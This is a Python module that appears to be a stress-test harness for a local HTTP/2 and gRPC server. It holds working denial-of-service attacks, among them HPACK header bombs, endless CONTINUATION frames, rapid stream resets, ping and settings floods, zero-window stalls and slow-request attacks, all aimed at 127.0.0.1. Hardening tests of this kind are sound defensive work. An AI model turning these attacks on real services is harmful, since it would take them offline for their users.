"""What hostile clients do to the endpoint, one function an attack. Frames are made once and sent as bytes, so that an attack costs the
attacker little; `attack` repeats one for ever, on a new connection whenever the server closes the one before.
"""

import asyncio
import ssl
from collections import Counter
from collections.abc import AsyncIterator, Callable, Iterator, Mapping
from itertools import cycle, islice

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

Chunks = AsyncIterator[bytes]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
RECOMMEND = "/streamer.v1.RecommendationService/Recommend"
WATCH = "/grpc.health.v1.Health/Watch"
STREAMS = 100  # what common servers allow a connection
AGAIN_S = 0.05  # before an attacker connects again
PAUSE_S = 0.002  # between two chunks of a flood, some 16 KB each, so that an attacker's floods leave time for its other attacks


def begin(window: int = 0) -> bytes:
    """What an HTTP/2 client sends first; no answer's body fits a `window` of 0 bytes."""
    return PREFACE + SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: window}).serialize()


def head(encoder: Encoder, path: str, **more: str) -> bytes:
    """The header block of a request: GET of a page, POST of a call."""
    kinds = {"content-type": "application/grpc"} if path.count("/") == 2 else {}
    pseudo = {":method": "POST" if kinds else "GET", ":scheme": "http", ":authority": "localhost", ":path": path}
    return bytes(encoder.encode(list({**pseudo, **kinds, **more}.items())))


def requests(path: str, count: int, body: bytes = b"") -> bytes:
    """The preface and `count` complete requests on as many streams."""
    encoder, frames = Encoder(), []
    for stream in range(1, 2 * count, 2):
        flags = ["END_HEADERS"] if body else ["END_HEADERS", "END_STREAM"]
        frames.append(HeadersFrame(stream, head(encoder, path), flags=flags).serialize())
        if body:
            frames.append(DataFrame(stream, body, flags=["END_STREAM"]).serialize())
    return begin() + b"".join(frames)


async def _once(data: bytes) -> Chunks:
    yield data


async def _for_ever(first: bytes, *frames: Frame | bytes) -> Chunks:
    """`first`, then the frames again and again, some 16 KB at a time."""
    yield first
    block = b"".join(frame if isinstance(frame, bytes) else frame.serialize() for frame in frames)
    while True:
        yield block * max(1, 16_384 // len(block))


async def _slowly(data: bytes, every_s: float = 1.0) -> Chunks:
    yield data
    while True:
        await asyncio.sleep(every_s)
        yield b"x"


def bomb() -> bytes:
    """A head of some 14 KB that unpacks to 16,000 copies of a header of 4,000 bytes."""
    encoder = Encoder()
    first = head(encoder, "/metrics", **{"x-bomb": "b" * 3_900})
    again = bytes(encoder.encode([("x-bomb", "b" * 3_900)]))  # one byte: it is in the table now
    return begin() + HeadersFrame(1, first + again * 10_000, flags=["END_HEADERS", "END_STREAM"]).serialize()


def continuations() -> Chunks:
    """A head that never ends."""
    block = head(Encoder(), "/metrics")
    return _for_ever(begin() + HeadersFrame(1, block).serialize(), ContinuationFrame(1, b"\x00\x01a\x01b" * 20))


def priorities() -> bytes:
    """1,000 priorities of streams that do not exist."""
    frames = (PriorityFrame(stream, depends_on=max(0, stream - 2)) for stream in range(1, 2_000, 2))
    return begin() + b"".join(frame.serialize() for frame in frames)


async def resets() -> Chunks:
    """Streams opened and reset at once, as many as there are."""
    encoder, streams = Encoder(), iter(range(1, 1 << 31, 2))
    block = head(encoder, "/metrics")
    yield begin()
    for first in streams:
        frames = []
        for stream in (first, *islice(streams, 199)):
            frames.append(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize())
            frames.append(RstStreamFrame(stream, 8).serialize())
            block = head(encoder, "/metrics")
        yield b"".join(frames)


def http1(path: str, count: int) -> bytes:
    """Pipelined requests."""
    return f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() * count


_POST = f"POST {RECOMMEND} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n"

# Each attack, what it sends, and whether it reads what comes back.
ATTACKS: Mapping[str, tuple[Callable[[], Chunks], bool]] = {
    "metrics, zero window": (lambda: _once(requests("/metrics", STREAMS)), True),
    "page, zero window": (lambda: _once(requests("/", STREAMS)), True),
    "Recommend, zero window": (lambda: _once(requests(RECOMMEND, STREAMS, b"\0\0\0\0\3\x0a\1u")), True),
    "page, not read": (lambda: _once(requests("/", STREAMS).replace(begin(), begin(1 << 30))), False),
    "settings": (lambda: _for_ever(begin(), SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0})), True),
    "pings": (lambda: _for_ever(begin(), PingFrame(0, b"12345678")), True),
    "pings, not read": (lambda: _for_ever(begin(), PingFrame(0, b"12345678")), False),
    "windows": (lambda: _for_ever(begin(), WindowUpdateFrame(0, 1)), True),
    "empty data": (lambda: _for_ever(requests(WATCH, 1, b"\0\0\0\0\0")[:-14], DataFrame(1, b"")), True),
    "continuations": (continuations, True),
    "large continuations": (
        lambda: _for_ever(begin() + HeadersFrame(1, b"").serialize(), ContinuationFrame(1, bytes(16_384))),
        True,
    ),
    "frame without end": (lambda: _for_ever(begin() + b"\xff\xff\xff\0\0\0\0\0\1", bytes(16_384)), True),
    "header bomb": (lambda: _once(bomb()), True),
    "priorities": (lambda: _once(priorities()), True),
    "1,500 streams": (lambda: _once(requests("/metrics", 1_500)), True),
    "resets": (resets, True),
    "slow head": (lambda: _slowly(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: "), True),
    "slow head, HTTP/2": (lambda: _once(begin() + HeadersFrame(1, head(Encoder(), "/")).serialize()), True),
    "slow body": (lambda: _slowly(_POST.encode()), True),
    "pipelining, not read": (lambda: _for_ever(b"", http1("/", 16)), False),
    "watchers, not read": (lambda: _once(requests(WATCH, STREAMS, b"\0\0\0\0\0")), False),
}
FEW = 3  # connections of each attack a client, but for the first three


def rounds(connections: int) -> Iterator[str]:
    """The attacks of one client, by name: `connections` with a zero window, and a few of each other attack."""
    names = list(ATTACKS)
    yield from islice(cycle(names[:3]), connections)
    for name in names[3:]:
        yield from [name] * FEW


async def attack(name: str, port: int, source: str, tls: bool, seen: Counter[str]) -> None:
    """Repeat the attack until cancelled; `seen` counts connections made, refused, and closed by the server."""
    make, reads = ATTACKS[name]
    context = None
    if tls:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)  # without the system's authorities, which take long to load
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["http/1.1" if "1" in name.partition(",")[0] else "h2"])
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=context, local_addr=(source, 0))
        except OSError:
            seen[f"{name}: not connected"] += 1
            await asyncio.sleep(AGAIN_S)
            continue
        seen[f"{name}: connected"] += 1
        try:
            await _run(make(), reader, writer, reads)
            seen[f"{name}: closed by the server"] += 1
        finally:
            writer.transport.abort()
        await asyncio.sleep(AGAIN_S)


async def _run(chunks: Chunks, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, reads: bool) -> None:
    """Send everything and read, or not, until the connection ends."""

    async def read() -> None:
        while await reader.read(65_536):
            pass

    if not reads:
        writer.transport.pause_reading()  # type: ignore[attr-defined]
    reading = asyncio.create_task(read())
    try:
        async for chunk in chunks:
            writer.write(chunk)
            await writer.drain()
            if reading.done():
                return
            await asyncio.sleep(PAUSE_S)
        while not (reading.done() or writer.transport.is_closing()):
            await asyncio.wait({reading}, timeout=0.5)
    except OSError:
        pass
    finally:
        reading.cancel()
        await asyncio.wait({reading})
        reading.cancelled() or reading.exception()
